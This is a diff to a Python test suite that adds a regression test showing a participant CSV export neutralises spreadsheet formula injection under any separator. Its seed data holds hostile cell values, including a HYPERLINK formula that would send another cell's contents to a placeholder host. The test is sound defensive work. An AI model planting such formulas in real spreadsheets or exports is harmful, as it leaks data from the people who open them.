@@ -322,6 +322,33 @@ class TestExports:
         # people write it, it stays text and can be dialled.
         assert row[10] == "0812 3456 7890"
 
+    def test_no_piece_of_a_csv_field_runs_as_a_formula_whatever_the_separator(
+        self, client, world, user_with
+    ):
+        # Issue #17 finding 4: "x,=1+1" in a ";" file opened with "," as the separator.
+        RegistrationFactory(
+            quota_rule=world.kpu_rule,
+            unit=world.kpu,
+            full_name="Ahmad, =1+1",
+            position='Kasubbag;=HYPERLINK("http://x/?"&B2,"klik")',
+            institution='KPU|@SUM(1)\n-2+3, "+4',
+        )
+        client.force_login(user_with("view_registration", "view_full_nik"))
+        response = client.get(reverse("participants:staff-export", args=[world.event.slug, "csv"]))
+        text = response.content.decode("utf-8-sig")
+
+        row = csv_rows(response)[1]
+        assert row[2] == "Ahmad, '=1+1"
+        assert row[8] == 'Kasubbag;\'=HYPERLINK("http://x/?"&B2,"klik")'
+        assert row[9] == "KPU|'@SUM(1)\n'-2+3, \"'+4"
+        for separator in (",", ";", "|", "\t"):
+            for line in text.splitlines()[1:]:
+                for field in line.split(separator):
+                    assert not field.strip(' "').startswith(("=", "+", "@", "-")), (
+                        separator,
+                        field,
+                    )
+
     def test_the_csv_is_separated_by_semicolons_for_excel_in_indonesian(
         self, client, world, user_with
     ):
